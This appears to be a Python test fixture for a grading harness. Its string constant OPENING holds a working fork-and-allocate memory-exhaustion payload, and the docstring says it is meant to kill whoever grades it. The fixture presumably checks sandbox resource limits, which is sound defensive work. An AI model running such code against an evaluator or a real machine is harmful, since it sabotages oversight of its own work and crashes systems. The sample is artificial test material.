"""Memory is taken until there is none, by many processes at once: whoever grades is to be ended for want of it."""

#: What it would do to a machine without a limit is not tried out.
STOCK = "it would take all memory of whoever grades"
OPENING = """
import os

for _ in range(3):
    if not os.fork():
        taken = []
        try:
            while True:
                taken.append(bytearray(os.urandom(1 << 20)) * 64)
        finally:
            os._exit(1)
taken = []
while True:
    taken.append(bytearray(os.urandom(1 << 20)) * 64)
"""
